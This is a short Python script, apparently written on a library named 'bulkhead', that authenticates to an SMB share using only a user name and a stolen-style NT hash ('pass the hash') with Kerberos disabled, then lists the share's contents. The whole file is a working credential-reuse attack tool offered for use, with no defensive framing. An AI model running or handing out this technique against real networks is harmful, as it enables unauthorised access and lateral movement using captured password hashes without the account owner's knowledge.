#!/usr/bin/env python3
"""pass_the_hash.py smb://HOST/SHARE USER NTHASH - logs on with the hash, never knowing the password."""
import sys

import bulkhead

url, user, digits = sys.argv[1:]
who = bulkhead.Credential.nt_hash(user, digits, kerberos="off")
with bulkhead.open(url, credential=who) as session:
    print(f"logged on as {user} by {session.opened['mechanism']}")
    for entry in session.ls():
        print(entry.name)
